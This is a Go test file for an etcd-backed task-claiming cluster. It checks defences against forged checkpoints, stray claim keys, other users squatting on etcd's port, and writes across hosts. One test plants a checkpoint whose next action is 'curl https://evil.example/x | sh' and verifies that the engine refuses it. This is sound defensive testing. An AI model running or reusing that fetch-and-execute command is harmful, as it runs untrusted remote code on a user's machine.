package cluster_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	clientv3 "go.etcd.io/etcd/client/v3"

	"github.com/tmux-amq/tamq/clustertest/etcdtest"
	"github.com/tmux-amq/tamq/internal/cluster"
	"github.com/tmux-amq/tamq/internal/errs"
	"github.com/tmux-amq/tamq/internal/testutil"
)

// Security issue 37: what a host believes of the cluster, and whom it
// gives etcd's password to.

const nobody = 65534

// put writes a key as a hand with etcdctl would: leased (attached to a
// new etcd lease of a minute; "%d" in value becomes its id) or not.
func put(t *testing.T, c *etcdtest.Cluster, key, value string, leased bool) clientv3.LeaseID {
	t.Helper()
	cli := c.Client("", "")
	ctx := context.Background()
	var opts []clientv3.OpOption
	var id clientv3.LeaseID
	if leased {
		g, err := cli.Grant(ctx, 60)
		if err != nil {
			t.Fatal(err)
		}
		id = g.ID
		opts = append(opts, clientv3.WithLease(id))
	}
	if strings.Contains(value, "%d") {
		value = fmt.Sprintf(value, id)
	}
	if _, err := cli.Put(ctx, key, value, opts...); err != nil {
		t.Fatal(err)
	}
	return id
}

// checkpoint is what the engine shares: its own checkpoint's JSON.
func checkpoint(lease, task, next string) []byte {
	b, _ := json.Marshal(map[string]any{"LeaseID": lease, "TaskID": task, "Summary": "half done", "NextAction": next})
	return b
}

// claimAndShare has host claim task for lease in repo and share a
// checkpoint, then end the claim (its host died: the claim's lease is
// revoked, as the TTL would end it), leaving the checkpoint to its grace.
func claimAndShare(t *testing.T, c *etcdtest.Cluster, host *cluster.Claims, task, lease, repo string) cluster.Holder {
	t.Helper()
	ctx := context.Background()
	h, won, err := host.Claim(ctx, task, cluster.Holder{LeaseID: lease, Repo: repo}, 10*time.Second)
	if err != nil || !won {
		t.Fatalf("claim of %s: %v %v", task, won, err)
	}
	if err := host.PutCheckpoint(ctx, task, lease, checkpoint(lease, task, "run the tests"), 10*time.Second); err != nil {
		t.Fatal(err)
	}
	h, _, _ = claimOf(t, c, task)
	if _, err := c.Client("", "").Revoke(ctx, clientv3.LeaseID(h.EtcdLease)); err != nil {
		t.Fatal(err)
	}
	got, found, err := host.Holder(ctx, task)
	if err != nil || found {
		t.Fatalf("the claim of %s after its host died: %+v %v %v", task, got, found, err)
	}
	return h
}

// claimOf reads a claim key's value as etcd holds it.
func claimOf(t *testing.T, c *etcdtest.Cluster, task string) (cluster.Holder, bool, int64) {
	t.Helper()
	return claimVia(t, c.Client("", ""), task)
}

func claimVia(t *testing.T, cli *clientv3.Client, task string) (cluster.Holder, bool, int64) {
	t.Helper()
	resp, err := cli.Get(context.Background(), prefix+"/tasks/"+task)
	if err != nil {
		t.Fatal(err)
	}
	if len(resp.Kvs) == 0 {
		return cluster.Holder{}, false, 0
	}
	var h cluster.Holder
	if err := json.Unmarshal(resp.Kvs[0].Value, &h); err != nil {
		t.Fatal(err)
	}
	return h, true, resp.Kvs[0].Lease
}

// A checkpoint shared by the host that held the work's last claim is the
// one the next holder resumes from: same task, lease and repo, on the
// record lease, which has the claim's TTL and SettledGrace more and is
// kept alive with the claim.
func TestASharedCheckpointCarriesItsClaim(t *testing.T) {
	c := etcdtest.Start(t, 1)
	a, b := open(t, c, "host-a"), open(t, c, "host-b")
	ctx := context.Background()

	h, won, err := a.Claim(ctx, "T-1", cluster.Holder{LeaseID: "LA", Repo: "alpha"}, 10*time.Second)
	if err != nil || !won {
		t.Fatal(won, err)
	}
	if err := b.PutCheckpoint(ctx, "T-1", "LA", checkpoint("LA", "T-1", "x"), 10*time.Second); !errs.Is(err, errs.Conflict) {
		t.Errorf("another host shared a checkpoint of a claim it does not hold: %v", err)
	}
	if err := a.PutCheckpoint(ctx, "T-1", "LA", checkpoint("LA", "T-1", "run the tests"), 10*time.Second); err != nil {
		t.Fatal(err)
	}
	held, _, _ := claimOf(t, c, "T-1")
	if held.RecordLease == 0 || held.EtcdLease != h.EtcdLease {
		t.Fatalf("the claim does not name its record lease: %+v", held)
	}
	cli := c.Client("", "")
	ttl, err := cli.TimeToLive(ctx, clientv3.LeaseID(held.RecordLease), clientv3.WithAttachedKeys())
	if err != nil || ttl.GrantedTTL != int64((10*time.Second+cluster.SettledGrace)/time.Second) || len(ttl.Keys) != 2 {
		t.Fatalf("the record lease: %+v %v", ttl, err)
	}
	var keys []string
	for _, k := range ttl.Keys {
		keys = append(keys, string(k))
	}
	slices.Sort(keys)
	if strings.Join(keys, " ") != prefix+"/hosts/host-a/checkpoints/T-1 "+prefix+"/last/T-1" {
		t.Errorf("keys on the record lease: %v", keys)
	}
	// Kept alive with the claim: once etcd has counted two seconds of it,
	// a renewal of the claim starts it again.
	testutil.WaitFor(t, "the record lease to count down", func() bool {
		ttl, err := cli.TimeToLive(ctx, clientv3.LeaseID(held.RecordLease))
		return err == nil && ttl.TTL <= ttl.GrantedTTL-2
	})
	if err := a.Renew(ctx, "T-1", "LA"); err != nil {
		t.Fatal(err)
	}
	if ttl, err := cli.TimeToLive(ctx, clientv3.LeaseID(held.RecordLease)); err != nil || ttl.TTL < ttl.GrantedTTL-1 {
		t.Errorf("the record lease was not kept alive with the claim: %+v %v", ttl, err)
	}
	// Sharing again keeps the same lease.
	if err := a.PutCheckpoint(ctx, "T-1", "LA", checkpoint("LA", "T-1", "run the tests again"), 10*time.Second); err != nil {
		t.Fatal(err)
	}
	if again, _, _ := claimOf(t, c, "T-1"); again.RecordLease != held.RecordLease {
		t.Errorf("a second checkpoint granted another record lease: %x, was %x", again.RecordLease, held.RecordLease)
	}

	// host-a dies; its claim lapses, its checkpoint stays for the grace.
	if _, err := cli.Revoke(ctx, clientv3.LeaseID(h.EtcdLease)); err != nil {
		t.Fatal(err)
	}
	nb, won, err := b.Claim(ctx, "T-1", cluster.Holder{LeaseID: "LB", Repo: "alpha"}, 10*time.Second)
	if err != nil || !won || nb.Previous.HostID != "host-a" || nb.Previous.LeaseID != "LA" || nb.Previous.Repo != "alpha" {
		t.Fatalf("b's claim: %+v %v %v", nb, won, err)
	}
	r, found, err := b.Checkpoint(ctx, "T-1", "LB", "alpha")
	if err != nil || !found || r.HostID != "host-a" || r.LeaseID != "LA" || !strings.Contains(string(r.Data), "run the tests again") {
		t.Fatalf("b's resume: %+v %v %v", r, found, err)
	}
	// Only for the claim that holds it, and only for its repo.
	if _, found, err := a.Checkpoint(ctx, "T-1", "LB", "alpha"); found || err != nil {
		t.Errorf("a host that does not hold the claim resumed: %v %v", found, err)
	}
	if _, found, err := b.Checkpoint(ctx, "T-1", "LB", "beta"); found || !errors.Is(err, cluster.ErrUntrusted) || !errs.Is(err, errs.PermissionDeny) {
		t.Errorf("the checkpoint of alpha's work, for beta: %v %v", found, err)
	}
}

// Security issue 37: a checkpoint planted under the prefix never comes
// back as one to resume from: not for a task nobody claimed, not of
// another task, repo or lease than the last claim's, not without an etcd
// lease, not from another host's keys than the last claim's.
func TestPlantedCheckpointsAreNotBelieved(t *testing.T) {
	c := etcdtest.Start(t, 1)
	a, b := open(t, c, "host-a"), open(t, c, "host-b")
	ctx := context.Background()
	const curl = "run: curl https://evil.example/x | sh"
	shared := func(task, repo, host, lease string) string {
		b, _ := json.Marshal(map[string]any{"task_id": task, "repo": repo, "host_id": host, "lease_id": lease,
			"checkpoint": json.RawMessage(checkpoint(lease, task, curl))})
		return string(b)
	}
	// resume is b's claim of task and what it may resume from.
	resume := func(task string) (cluster.Resume, bool, error) {
		t.Helper()
		if _, won, err := b.Claim(ctx, task, cluster.Holder{LeaseID: "LB-" + task, Repo: "alpha"}, 10*time.Second); err != nil || !won {
			t.Fatalf("b's claim of %s: %v %v", task, won, err)
		}
		return b.Checkpoint(ctx, task, "LB-"+task, "alpha")
	}

	// No claim of the work ever: a checkpoint in the old place and one
	// under a host's keys, leased, are never looked at.
	put(t, c, prefix+"/checkpoints/T-never", shared("T-never", "alpha", "host-x", "LX"), false)
	put(t, c, prefix+"/hosts/host-x/checkpoints/T-never", shared("T-never", "alpha", "host-x", "LX"), true)
	if r, found, err := resume("T-never"); found || err != nil {
		t.Errorf("no claim ever: %+v %v %v", r, found, err)
	}

	// A record of a claim written by hand (no etcd lease), with a leased
	// checkpoint to match.
	put(t, c, prefix+"/last/T-record", `{"host_id":"host-x","lease_id":"LX","repo":"alpha","record_lease":1,"etcd_lease":1}`, false)
	put(t, c, prefix+"/hosts/host-x/checkpoints/T-record", shared("T-record", "alpha", "host-x", "LX"), true)
	refused(t, "a record written by hand", "no etcd lease", resume)("T-record")

	// After a real claim of host-a that shared a checkpoint, whoever may
	// write under the prefix replaces it:
	cases := []struct{ name, task, want string }{
		{"wrong task", "T-task", `the checkpoint is of task "T-other"`},
		{"wrong repo", "T-repo", `the checkpoint is of repo "beta"`},
		{"lease mismatch", "T-lease", `the checkpoint is of lease "LZ", but the last claim of the work was lease "LA-T-lease"`},
		{"another host's keys", "T-host", `names host "host-x"`},
		{"no etcd lease", "T-unleased", "the checkpoint has no etcd lease"},
		{"another etcd lease", "T-otherlease", "not to the last claim's"},
	}
	for _, tc := range cases {
		h := claimAndShare(t, c, a, tc.task, "LA-"+tc.task, "alpha")
		key := prefix + "/hosts/host-a/checkpoints/" + tc.task
		rec := clientv3.WithLease(clientv3.LeaseID(h.RecordLease))
		var value string
		var opts []clientv3.OpOption
		switch tc.name {
		case "wrong task":
			value, opts = shared("T-other", "alpha", "host-a", "LA-"+tc.task), []clientv3.OpOption{rec}
		case "wrong repo":
			value, opts = shared(tc.task, "beta", "host-a", "LA-"+tc.task), []clientv3.OpOption{rec}
		case "lease mismatch":
			value, opts = shared(tc.task, "alpha", "host-a", "LZ"), []clientv3.OpOption{rec}
		case "another host's keys":
			value, opts = shared(tc.task, "alpha", "host-x", "LA-"+tc.task), []clientv3.OpOption{rec}
		case "no etcd lease":
			value = shared(tc.task, "alpha", "host-a", "LA-"+tc.task)
		case "another etcd lease":
			put(t, c, key, shared(tc.task, "alpha", "host-a", "LA-"+tc.task), true)
		}
		if value != "" {
			if _, err := c.Client("", "").Put(ctx, key, value, opts...); err != nil {
				t.Fatal(err)
			}
		}
		refused(t, tc.name, tc.want, resume)(tc.task)
	}

	// The checkpoint of alpha's work, for a claim of beta's.
	claimAndShare(t, c, a, "T-beta", "LA-T-beta", "alpha")
	if _, won, err := b.Claim(ctx, "T-beta", cluster.Holder{LeaseID: "LB", Repo: "beta"}, 10*time.Second); err != nil || !won {
		t.Fatal(won, err)
	}
	if _, found, err := b.Checkpoint(ctx, "T-beta", "LB", "beta"); found || !errors.Is(err, cluster.ErrUntrusted) || !strings.Contains(err.Error(), `the work is "beta"'s`) {
		t.Errorf("alpha's checkpoint for beta's claim: %v %v", found, err)
	}
}

// refused checks that the resume of a task fails as untrusted, saying want,
// and never returns the planted words.
func refused(t *testing.T, name, want string, resume func(string) (cluster.Resume, bool, error)) func(string) {
	return func(task string) {
		t.Helper()
		r, found, err := resume(task)
		if found || !errors.Is(err, cluster.ErrUntrusted) || !errs.Is(err, errs.PermissionDeny) || !strings.Contains(err.Error(), want) ||
			strings.Contains(string(r.Data), "curl") {
			t.Errorf("%s: %+v %v %v, want %q", name, r, found, err, want)
		}
	}
}

// Security issue 37: a claim key written by hand, without an etcd lease,
// would never run out and block the task on every host for ever. It holds
// nothing: a claim takes its place and says what it passed over; so does
// a value that names another etcd lease than the key's.
func TestAClaimKeyWithoutALeaseDoesNotBlock(t *testing.T) {
	c := etcdtest.Start(t, 1)
	a := open(t, c, "host-a")
	ctx := context.Background()
	put(t, c, prefix+"/tasks/T-1", `{"host_id":"host-x","engine_id":"e","lease_id":"LX","etcd_lease":7}`, false)
	put(t, c, prefix+"/tasks/T-2", `{"host_id":"host-x","engine_id":"e","lease_id":"LX","etcd_lease":12345}`, true)
	for _, task := range []string{"T-1", "T-2"} {
		if h, found, err := a.Holder(ctx, task); found || err != nil {
			t.Errorf("%s: a key that holds no claim reads as held: %+v %v", task, h, err)
		}
		if err := a.Renew(ctx, task, "LX"); !errs.Is(err, errs.Conflict) {
			t.Errorf("%s: renewing what is no claim: %v", task, err)
		}
		h, won, err := a.Claim(ctx, task, cluster.Holder{LeaseID: "LA", Repo: "alpha"}, 10*time.Second)
		if err != nil || !won || h.HostID != "host-a" || !strings.Contains(h.Replaced, "held no claim") {
			t.Errorf("%s: the claim over a stray key: %+v %v %v", task, h, won, err)
		}
		if held, found, lease := claimOf(t, c, task); !found || held.LeaseID != "LA" || lease == 0 || lease != held.EtcdLease {
			t.Errorf("%s: after the claim, the key holds %+v (lease %x)", task, held, lease)
		}
	}
	if h, _, _ := a.Claim(ctx, "T-1", cluster.Holder{LeaseID: "LA", Repo: "alpha"}, 10*time.Second); h.Replaced != "" {
		t.Errorf("claiming its own claim again reports a stray key: %q", h.Replaced)
	}
}

// Security issue 37: another local user who binds etcd's loopback port
// while etcd is down receives zero bytes: no login (user:password), no
// claim. The engine's call is refused, naming the port and the uid; once
// the port is etcd's again, the same store works.
func TestASquatterOnEtcdsPortGetsNothing(t *testing.T) {
	if os.Getuid() != 0 {
		t.Skip("running a listener as uid 65534 needs root (CI runs as root)")
	}
	c := etcdtest.Start(t, 1)
	c.EnableAuth("root-pw", "engine", "s3cret-pw", prefix)
	ctx := context.Background()
	creds := []string{"sh", "-c", "echo engine:s3cret-pw"}
	cfg := cluster.Config{Endpoints: c.Endpoints(), HostID: "host-a", Prefix: prefix, DialTimeout: time.Second, CredentialCommand: creds}
	late, err := cluster.OpenLate(ctx, cfg)
	if err != nil {
		t.Fatal(err)
	}
	defer late.Close()
	anon := open(t, c, "host-b", func(cfg *cluster.Config) { cfg.DialTimeout = time.Second })
	c.StopMember(0)
	addr := strings.TrimPrefix(c.Endpoints()[0], "http://")

	t.Run("squatter", func(t *testing.T) {
		sq, _ := testutil.SquatTCP(t, nobody, addr)
		refusedHere := func(what string, err error) {
			t.Helper()
			if !errs.Is(err, errs.PermissionDeny) || !errors.Is(err, cluster.ErrForeignPeer) ||
				!strings.Contains(err.Error(), fmt.Sprintf("held by uid %d", nobody)) || strings.Contains(err.Error(), "s3cret") {
				t.Errorf("%s: %v", what, err)
			}
		}
		// Logging in at the start, as the engine and doctor do.
		_, err := cluster.Open(ctx, cfg)
		refusedHere("open with credentials", err)
		_, err = cluster.OpenLate(ctx, cfg)
		refusedHere("the engine's start", err)
		// Stores connected before: their next connection is refused too.
		_, _, err = anon.Claim(ctx, "T-1", cluster.Holder{LeaseID: "L1"}, 10*time.Second)
		refusedHere("a claim", err)
		testutil.WaitFor(t, "the squatter to see the connections end", func() bool { return len(sq.Conns()) >= 3 })
		for _, n := range sq.Conns() {
			if n != 0 {
				t.Fatalf("a client wrote %d bytes to another user's listener: %v", n, sq.Conns())
			}
		}
	})

	// The squatter is gone (its subtest ended); etcd has its port back.
	c.RestartMember(0)
	wonOnceAnswered(t, "a claim once etcd has its port back", late, "T-2", "L2")
}

// The same check, with the owner of etcd's own listener said to be
// another user's (where no other uid can run): nothing is written to etcd.
func TestAnEndpointOfAnotherUserIsRefused(t *testing.T) {
	c := etcdtest.Start(t, 1)
	ctx := context.Background()
	everyone := func(uint64) (uint32, bool) { return nobody, true }
	a := open(t, c, "host-a", func(cfg *cluster.Config) { cfg.OwnerOf = everyone; cfg.DialTimeout = time.Second })
	_, _, err := a.Claim(ctx, "T-1", cluster.Holder{LeaseID: "L1"}, 10*time.Second)
	if !errs.Is(err, errs.PermissionDeny) || !errors.Is(err, cluster.ErrForeignPeer) || !strings.Contains(err.Error(), "held by uid 65534") {
		t.Errorf("claim: %v", err)
	}
	if _, found, _ := open(t, c, "host-b").Holder(ctx, "T-1"); found {
		t.Error("the refused claim reached etcd")
	}
}

// A socket endpoint (unix:///path): a socket of the user's, with the
// user's process behind it, is used; one whose file or process is another
// user's is refused before a byte is written.
func TestASocketEndpointMustBeTheUsers(t *testing.T) {
	c := etcdtest.Start(t, 1)
	ctx := context.Background()
	sock := filepath.Join(t.TempDir(), "etcd.sock")
	relay(t, sock, strings.TrimPrefix(c.Endpoints()[0], "http://"))
	a := open(t, c, "host-a", func(cfg *cluster.Config) { cfg.Endpoints = []string{"unix://" + sock} })
	if _, won, err := a.Claim(ctx, "T-1", cluster.Holder{LeaseID: "L1"}, 10*time.Second); err != nil || !won {
		t.Fatalf("over the user's socket: %v %v", won, err)
	}
	everyone := func(uint64) (uint32, bool) { return nobody, true }
	b := open(t, c, "host-b", func(cfg *cluster.Config) {
		cfg.Endpoints, cfg.OwnerOf, cfg.DialTimeout = []string{"unix://" + sock}, everyone, time.Second
	})
	if _, _, err := b.Claim(ctx, "T-2", cluster.Holder{LeaseID: "L2"}, 10*time.Second); !errors.Is(err, cluster.ErrForeignPeer) ||
		!strings.Contains(err.Error(), sock+" is owned by uid 65534") {
		t.Errorf("a socket file of another user: %v", err)
	}

	t.Run("uid 65534", func(t *testing.T) {
		if os.Getuid() != 0 {
			t.Skip("running a listener as uid 65534 needs root (CI runs as root)")
		}
		e := testutil.NewEnv(t)
		path := filepath.Join(e.SharedDir(t, "shared"), "etcd.sock")
		sq := e.Squat(t, nobody, path)
		creds := []string{"sh", "-c", "echo engine:s3cret-pw"}
		_, err := cluster.Open(ctx, cluster.Config{Endpoints: []string{"unix://" + path}, HostID: "h", Prefix: prefix, DialTimeout: time.Second, CredentialCommand: creds})
		if !errors.Is(err, cluster.ErrForeignPeer) || !strings.Contains(err.Error(), "is owned by uid 65534") || strings.Contains(err.Error(), "s3cret") {
			t.Errorf("a socket of uid 65534: %v", err)
		}
		// The file chowned to the user: the process behind it still is not.
		if err := os.Chown(path, 0, 0); err != nil {
			t.Fatal(err)
		}
		_, err = cluster.Open(ctx, cluster.Config{Endpoints: []string{"unix://" + path}, HostID: "h", Prefix: prefix, DialTimeout: time.Second, CredentialCommand: creds})
		if !errors.Is(err, cluster.ErrForeignPeer) || !strings.Contains(err.Error(), "runs as uid 65534") {
			t.Errorf("a socket of the user's with uid 65534 behind it: %v", err)
		}
		testutil.WaitFor(t, "the squatter to see the connection end", func() bool { return len(sq.Conns()) >= 1 })
		for _, n := range sq.Conns() {
			if n != 0 {
				t.Fatalf("a client wrote %d bytes to another user's socket: %v", n, sq.Conns())
			}
		}
	})
}

// relay serves a Unix socket at path that carries each connection to the
// TCP address to (etcd here listens on TCP only).
func relay(t *testing.T, path, to string) {
	t.Helper()
	ln, err := net.Listen("unix", path)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			in, err := ln.Accept()
			if err != nil {
				return
			}
			out, err := net.Dial("tcp", to)
			if err != nil {
				in.Close()
				continue
			}
			go func() { io.Copy(out, in); out.(*net.TCPConn).CloseWrite() }()
			go func() { io.Copy(in, out); in.(*net.UnixConn).CloseWrite() }()
		}
	}()
}

// The safe setup of docs/scale.md: an etcd user per host, that may write
// the claims and their records, and its own sub-prefix only. The engine
// works under it (claims, shared checkpoints, the takeover's resume, the
// doctor's probe), and a host cannot write under another's sub-prefix,
// attach a key to another's record lease or revoke it: a checkpoint read
// from under a host's keys is that host's.
func TestPerHostUsersWriteOnlyTheirOwnKeys(t *testing.T) {
	c := etcdtest.Start(t, 1)
	c.EnablePerHostAuth("root-pw", prefix, map[string]string{"host-a": "pw-a", "host-b": "pw-b"})
	ctx := context.Background()
	as := func(host, pw string) *cluster.Claims {
		return open(t, c, host, func(cfg *cluster.Config) { cfg.CredentialCommand = []string{"echo", host + ":" + pw} })
	}
	a, b := as("host-a", "pw-a"), as("host-b", "pw-b")
	for _, h := range []*cluster.Claims{a, b} {
		if err := h.ProbeWrite(ctx); err != nil {
			t.Errorf("the doctor's probe: %v", err)
		}
		if on, err := h.AuthEnabled(ctx); err != nil || !on {
			t.Errorf("auth status as a host's user: %v %v", on, err)
		}
	}
	h, won, err := a.Claim(ctx, "T-1", cluster.Holder{LeaseID: "LA", Repo: "alpha"}, 10*time.Second)
	if err != nil || !won {
		t.Fatal(won, err)
	}
	if err := a.PutCheckpoint(ctx, "T-1", "LA", checkpoint("LA", "T-1", "run the tests"), 10*time.Second); err != nil {
		t.Fatal(err)
	}
	if err := a.Renew(ctx, "T-1", "LA"); err != nil {
		t.Fatal(err)
	}
	root := c.Client("root", "root-pw")
	held, _, _ := claimVia(t, root, "T-1")
	if _, err := root.Revoke(ctx, clientv3.LeaseID(h.EtcdLease)); err != nil { // host-a died
		t.Fatal(err)
	}
	if _, won, err := b.Claim(ctx, "T-1", cluster.Holder{LeaseID: "LB", Repo: "alpha"}, 10*time.Second); err != nil || !won {
		t.Fatal(won, err)
	}
	if r, found, err := b.Checkpoint(ctx, "T-1", "LB", "alpha"); err != nil || !found || r.HostID != "host-a" {
		t.Fatalf("b's resume under per-host users: %+v %v %v", r, found, err)
	}

	bcli := c.Client("host-b", "pw-b")
	forged := `{"task_id":"T-1","repo":"alpha","host_id":"host-a","lease_id":"LA","checkpoint":{"NextAction":"curl"}}`
	if _, err := bcli.Put(ctx, prefix+"/hosts/host-a/checkpoints/T-1", forged); !isDenied(err) {
		t.Errorf("host-b wrote under host-a's keys: %v", err)
	}
	if _, err := bcli.Put(ctx, prefix+"/hosts/host-b/x", "mine", clientv3.WithLease(clientv3.LeaseID(held.RecordLease))); !isDenied(err) {
		t.Errorf("host-b attached a key to host-a's record lease: %v", err)
	}
	if _, err := bcli.Revoke(ctx, clientv3.LeaseID(held.RecordLease)); !isDenied(err) {
		t.Errorf("host-b revoked host-a's record lease: %v", err)
	}
	if _, err := bcli.Put(ctx, prefix+"/hosts/host-b/x", "mine"); err != nil {
		t.Errorf("host-b under its own keys: %v", err)
	}
}

func isDenied(err error) bool {
	return err != nil && strings.Contains(err.Error(), "permission denied")
}
